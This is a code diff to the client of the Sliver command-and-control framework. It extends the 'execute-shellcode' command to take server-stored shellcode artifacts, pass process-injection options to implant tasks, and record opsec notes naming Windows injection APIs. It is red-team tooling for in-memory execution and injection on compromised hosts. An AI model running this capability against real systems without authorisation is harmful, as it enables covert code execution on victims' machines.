@@ -26,7 +26,9 @@ import (
 	"log"
 	"os"
 
+	"github.com/bishopfox/sliver/client/command/help"
 	"github.com/bishopfox/sliver/client/console"
+	consts "github.com/bishopfox/sliver/client/constants"
 	"github.com/bishopfox/sliver/client/core"
 	"github.com/bishopfox/sliver/protobuf/clientpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
@@ -36,6 +38,14 @@ import (
 	"github.com/desertbit/grumble"
 )
 
+func init() {
+	help.RegisterOpsec(consts.ExecuteShellcodeStr, &help.OpsecInfo{
+		Risk:      help.OpsecHigh,
+		Artifacts: []string{"executable memory in the implant or target process"},
+		APIs:      []string{"process injection (VirtualAllocEx, WriteProcessMemory, CreateRemoteThread) with --pid"},
+	})
+}
+
 // ExecuteShellcodeCmd - Execute shellcode in-memory
 func ExecuteShellcodeCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 	session, beacon := con.ActiveTarget.GetInteractive()
@@ -51,11 +61,27 @@ func ExecuteShellcodeCmd(ctx *grumble.Context, con *console.SliverConsoleClient)
 	}
 	pid := ctx.Flags.Uint("pid")
 	shellcodePath := ctx.Args.String("filepath")
-	shellcodeBin, err := os.ReadFile(shellcodePath)
-	if err != nil {
-		con.PrintErrorf("%s\n", err.Error())
+	artifactName := ctx.Flags.String("artifact")
+	if (shellcodePath == "") == (artifactName == "") {
+		con.PrintErrorf("Specify a shellcode file or an --artifact\n")
 		return
 	}
+	var shellcodeBin []byte
+	var err error
+	if artifactName != "" {
+		artifact, err := con.Rpc.ShellcodeArtifactContent(context.Background(), &clientpb.ShellcodeArtifact{Name: artifactName})
+		if err != nil {
+			con.PrintErrorf("%s\n", err)
+			return
+		}
+		shellcodeBin = artifact.Data
+	} else {
+		shellcodeBin, err = os.ReadFile(shellcodePath)
+		if err != nil {
+			con.PrintErrorf("%s\n", err.Error())
+			return
+		}
+	}
 	if pid != 0 && interactive {
 		con.PrintErrorf("Cannot use both `--pid` and `--interactive`\n")
 		return
@@ -89,18 +115,24 @@ func ExecuteShellcodeCmd(ctx *grumble.Context, con *console.SliverConsoleClient)
 		con.PrintInfof("Shellcode encoded in %d iterations (%d bytes -> %d bytes)\n", iter, oldSize, len(shellcodeBin))
 	}
 
+	injection, err := parseInjection(ctx)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
 	if interactive {
-		executeInteractive(ctx, ctx.Flags.String("process"), shellcodeBin, rwxPages, con)
+		executeInteractive(ctx, ctx.Flags.String("process"), shellcodeBin, rwxPages, injection, con)
 		return
 	}
 	ctrl := make(chan bool)
 	msg := fmt.Sprintf("Sending shellcode to %s ...", session.GetName())
 	con.SpinUntil(msg, ctrl)
 	shellcodeTask, err := con.Rpc.Task(context.Background(), &sliverpb.TaskReq{
-		Data:     shellcodeBin,
-		RWXPages: rwxPages,
-		Pid:      uint32(pid),
-		Request:  con.ActiveTarget.Request(ctx),
+		Data:      shellcodeBin,
+		RWXPages:  rwxPages,
+		Pid:       uint32(pid),
+		Request:   con.ActiveTarget.Request(ctx),
+		Injection: injection,
 	})
 	ctrl <- true
 	<-ctrl
@@ -133,7 +165,7 @@ func PrintExecuteShellcode(task *sliverpb.Task, con *console.SliverConsoleClient
 	}
 }
 
-func executeInteractive(ctx *grumble.Context, hostProc string, shellcode []byte, rwxPages bool, con *console.SliverConsoleClient) {
+func executeInteractive(ctx *grumble.Context, hostProc string, shellcode []byte, rwxPages bool, injection *sliverpb.Injection, con *console.SliverConsoleClient) {
 	// Check active session
 	session := con.ActiveTarget.GetSessionInteractive()
 	if session == nil {
@@ -174,10 +206,11 @@ func executeInteractive(ctx *grumble.Context, hostProc string, shellcode []byte,
 	msg := fmt.Sprintf("Sending shellcode to %s ...", session.GetName())
 	con.SpinUntil(msg, ctrl)
 	_, err = con.Rpc.Task(context.Background(), &sliverpb.TaskReq{
-		Request:  con.ActiveTarget.Request(ctx),
-		Pid:      pid,
-		Data:     shellcode,
-		RWXPages: rwxPages,
+		Request:   con.ActiveTarget.Request(ctx),
+		Pid:       pid,
+		Data:      shellcode,
+		RWXPages:  rwxPages,
+		Injection: injection,
 	})
 	ctrl <- true
 	<-ctrl